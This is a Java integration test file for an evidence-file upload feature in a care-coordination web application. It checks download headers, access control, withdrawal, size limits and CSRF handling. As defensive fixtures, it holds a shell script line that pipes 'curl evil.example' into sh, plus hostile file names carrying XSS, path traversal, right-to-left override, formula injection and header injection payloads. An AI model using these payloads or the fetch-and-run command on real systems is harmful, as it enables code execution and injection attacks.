package org.alongside.work.evidence;

import static org.alongside.referral.ReferralAnswers.aReferral;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.alongside.journey.Journey;
import org.alongside.journey.JourneyTest;
import org.alongside.journey.Journeys;
import org.alongside.journey.SignedIn;
import org.alongside.journey.TurnableClock;
import org.alongside.record.SampleFiles;
import org.alongside.work.step.StepPageTest;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

@JourneyTest
class EvidencePageTest {

    private static final Map<String, String> CARE_PLAN = Map.of("kind", "carePlan");
    private static final Pattern FILE = Pattern.compile("href=\"(/evidence/[0-9a-f-]{36})\"");

    @Autowired
    private Journeys journeys;

    @LocalServerPort
    private int port;

    private Journey journey;
    private String evidence;
    private SignedIn worker;

    @BeforeEach
    void aCareCoordinatorReferredAPerson() {
        journeys.clock().turnTo(TurnableClock.MONDAY);
        journey = journeys.start("referral", "careCoordinator", aReferral());
        evidence = "/episodes/" + journey.reference() + "/evidence";
        worker = SignedIn.as("careCoordinator", port);
    }

    @Test
    void aFileIsAddedAndSavedAgainByteForByteButNeverOpensAsAPageOfOurs() {
        assertThat(worker.get(evidence).body())
                .contains("No file has been added yet.")
                .contains("Add a file");
        HttpResponse<String> added = worker.upload(evidence, evidence, CARE_PLAN, "my plan.pdf", SampleFiles.pdf());
        assertThat(added.uri().getPath()).isEqualTo(evidence);
        assertThat(added.body())
                .contains("The file is added.")
                .contains("Files (1)")
                .contains("my plan.pdf");

        HttpResponse<byte[]> file = worker.download(fileIn(added));
        assertThat(file.statusCode()).isEqualTo(200);
        assertThat(file.body()).isEqualTo(SampleFiles.pdf());
        assertThat(header(file, "Content-Disposition"))
                .startsWith("attachment;")
                .contains("my%20plan.pdf");
        assertThat(header(file, "X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(header(file, "Content-Security-Policy")).isEqualTo("sandbox; default-src 'none'");
        assertThat(header(file, "Content-Type")).isEqualTo("application/pdf");
        assertThat(file.headers().allValues("Content-Security-Policy")).hasSize(1);
        assertThat(looks("careCoordinator", "file of evidence", true)).isOne();
    }

    @Test
    void itIsOnTheTimelineAndOneLinkAwayFromThePersonAndTheEpisode() {
        String file = fileIn(worker.upload(evidence, evidence, CARE_PLAN, "plan.pdf", SampleFiles.pdf()));
        String person = "/people/" + person();
        assertThat(worker.get(person + "/timeline").body())
                .contains("File added: plan.pdf")
                .contains(file);
        assertThat(worker.get(person).body()).contains("href=\"" + evidence + "\"");
        assertThat(worker.get("/episodes/" + journey.reference()).body()).contains("href=\"" + evidence + "\"");
    }

    @Test
    void whatIsMissingIsSaidByBox() {
        HttpResponse<String> page = worker.upload(evidence, evidence, Map.of(), "", new byte[0]);
        assertThat(page.statusCode()).isEqualTo(422);
        assertThat(page.body())
                .contains("<title>Error: ")
                .contains("href=\"#kind\"")
                .contains("href=\"#file\"")
                .contains("Choose a file.");
    }

    @Test
    void aScriptRenamedToPdfIsRefusedInASentenceAndTheChoiceStays() {
        HttpResponse<String> page = worker.upload(
                evidence, evidence, CARE_PLAN, "visit.pdf", SampleFiles.text("#!/bin/sh\ncurl evil.example | sh\n"));
        assertThat(page.statusCode()).isEqualTo(422);
        assertThat(page.body()).contains("visit.pdf is not a PDF document, though its name says so.");
        assertThat(Jsoup.parse(page.body()).select("input[value=carePlan][checked]"))
                .hasSize(1);
        assertThat(files()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=x onerror=alert(1)>.pdf",
                "plan\u202Efdp.pdf",
                "..\\..\\plan.pdf",
                "=cmd|' !A0.pdf",
                "a;filename*=evil.html;.pdf"
            })
    void aStrangeNameIsTextAndNothingElse(String name) {
        HttpResponse<String> added = worker.upload(evidence, evidence, CARE_PLAN, name, SampleFiles.pdf());
        assertThat(added.statusCode()).isEqualTo(200);
        assertThat(added.body())
                .doesNotContain("<img src=x")
                .doesNotContain("\u202E")
                .doesNotContain("..\\");
        HttpResponse<byte[]> file = worker.download(fileIn(added));
        assertThat(header(file, "Content-Disposition"))
                .startsWith("attachment;")
                .doesNotContain("\u202E");
        assertThat(header(file, "Content-Type")).isEqualTo("application/pdf");
    }

    @Test
    void aFileOfFiftyMegabytesIsToldToBeTooLargeOnAPageOfOurs() {
        HttpResponse<String> page =
                worker.upload(evidence, evidence, CARE_PLAN, "film.pdf", new byte[50 * 1024 * 1024]);
        assertThat(page.statusCode()).isEqualTo(413);
        assertThat(page.body())
                .contains("That is too large")
                .contains("A file may have up to 10 megabytes.")
                .contains("/help");
        assertThat(files()).isZero();
    }

    @Test
    void aWithdrawnFileStaysInTheListWithItsReasonAndOnlyTheManagerOpensIt() {
        String file = fileIn(worker.upload(evidence, evidence, CARE_PLAN, "plan.pdf", SampleFiles.pdf()));
        String withdraw = file + "/withdraw";
        HttpResponse<String> noReason = worker.post(withdraw, withdraw, Map.of("because", " "));
        assertThat(noReason.statusCode()).isEqualTo(422);
        assertThat(noReason.body()).contains("href=\"#because\"").contains("Say why the file is withdrawn.");

        HttpResponse<String> done = worker.post(withdraw, withdraw, Map.of("because", "It is <b>somebody else's</b>."));
        assertThat(done.uri().getPath()).isEqualTo(evidence);
        assertThat(done.body())
                .contains("Withdrawn by <span>Carys Holloway</span>")
                .contains("It is &lt;b&gt;somebody else&#39;s&lt;/b&gt;.")
                .doesNotContain("href=\"" + file + "\"");
        assertThat(worker.download(file).statusCode()).isEqualTo(403);
        assertThat(worker.get(file).body())
                .contains("This file was withdrawn. Only the team manager can still open it.");
        assertThat(SignedIn.as("teamManager2", port).download(file).body()).isEqualTo(SampleFiles.pdf());
        assertThat(worker.get("/people/" + person() + "/timeline").body()).contains("File withdrawn: plan.pdf");
    }

    @Test
    void aStrangerIsLetIntoNoneOfItAndEachLookIsLogged() {
        String file = fileIn(worker.upload(evidence, evidence, CARE_PLAN, "plan.pdf", SampleFiles.pdf()));
        SignedIn stranger = SignedIn.as("socialWorker2", port);
        assertThat(stranger.get(evidence).statusCode()).isEqualTo(403);
        assertThat(stranger.download(file).statusCode()).isEqualTo(403);
        assertThat(stranger.get(file + "/withdraw").statusCode()).isEqualTo(403);
        assertThat(stranger.upload(evidence, "/people", CARE_PLAN, "a.pdf", SampleFiles.pdf())
                        .statusCode())
                .isEqualTo(403);
        assertThat(looks("socialWorker2", "evidence", false)).isEqualTo(2);
        assertThat(looks("socialWorker2", "file of evidence", false)).isOne();
        assertThat(looks("socialWorker2", "withdrawing evidence", false)).isOne();
        assertThat(files()).isOne();
        assertThat(worker.download("/evidence/" + UUID.randomUUID()).statusCode())
                .isEqualTo(404);
        assertThat(worker.download("/evidence/nothing").statusCode()).isEqualTo(404);
    }

    @Test
    void aFileWithAForgedTokenIsNotTaken() {
        HttpResponse<String> page = worker.postWithToken(evidence, "forged", CARE_PLAN);
        assertThat(page.body()).doesNotContain("The file is added.");
        assertThat(files()).isZero();
    }

    @Test
    void filesAddedBeforeAStartGoToTheEpisodeAndWhatWasTypedStays() {
        Map<String, Object> told = aReferral();
        Map<String, String> boxes = new LinkedHashMap<>(StepPageTest.typed(told));
        boxes.put("action", "evidence");
        String waiting = "/start/referral/evidence";

        HttpResponse<String> page = worker.post("/start/referral", "/start/referral", boxes);
        assertThat(page.uri().getPath()).isEqualTo(waiting);
        takeAwayAll(waiting);
        worker.upload(waiting, waiting, CARE_PLAN, "wrong.pdf", SampleFiles.pdf());
        takeAwayAll(waiting);
        HttpResponse<String> added = worker.upload(waiting, waiting, CARE_PLAN, "plan.pdf", SampleFiles.pdf());
        String file = fileIn(added);
        assertThat(SignedIn.as("careCoordinator2", port).download(file).statusCode())
                .isEqualTo(404);

        assertThat(worker.get("/start/referral").body())
                .contains((String) told.get("personName"))
                .contains("Care plan: plan.pdf")
                .doesNotContain("wrong.pdf");
        assertThat(worker.get("/start/referral/check").body()).contains("Care plan: plan.pdf");
        HttpResponse<String> started = worker.post("/start/referral/check", "/start/referral/check", Map.of());
        String reference = started.uri().getPath().substring("/started/".length());
        assertThat(worker.get("/episodes/" + reference + "/evidence").body())
                .contains(file)
                .doesNotContain("wrong.pdf");
        assertThat(worker.get(waiting).body()).contains("No file has been added yet.");
    }

    @Test
    void aStartThatIsRefusedLeavesItsFilesWhereTheyWere() {
        String waiting = "/start/referral/evidence";
        worker.upload(waiting, waiting, CARE_PLAN, "kept.pdf", SampleFiles.pdf());
        worker.post("/start/referral", "/start/referral", Map.of("action", "save", "personName", "Tilde Noonan"));
        HttpResponse<String> page = worker.post("/start/referral/check", "/start/referral/check", Map.of());
        assertThat(page.statusCode()).isEqualTo(422);
        assertThat(page.body()).contains("Care plan: kept.pdf").contains("Tilde Noonan");
        takeAwayAll(waiting);
    }

    private void takeAwayAll(String waiting) {
        Matcher file = FILE.matcher(worker.get(waiting).body());
        while (file.find()) {
            String remove = waiting + file.group(1).substring("/evidence".length()) + "/remove";
            assertThat(worker.post(remove, waiting, Map.of()).body()).contains("The file is taken away.");
        }
    }

    private static String fileIn(HttpResponse<String> page) {
        Matcher file = FILE.matcher(page.body());
        assertThat(file.find()).as(page.body()).isTrue();
        return file.group(1);
    }

    private static String header(HttpResponse<?> response, String name) {
        return response.headers().firstValue(name).orElse("");
    }

    private UUID person() {
        return journey.person();
    }

    private int files() {
        return journeys.database()
                .sql("select count(*) from evidence_file where episode_id = ?")
                .param(journey.episode())
                .query(Integer.class)
                .single();
    }

    private int looks(String who, String what, boolean allowed) {
        return journeys.database()
                .sql(
                        "select count(*) from access_log where episode_id = ? and worker_id = ? and what = ? and allowed = ?")
                .param(journey.episode())
                .param(who)
                .param(what)
                .param(allowed)
                .query(Integer.class)
                .single();
    }
}
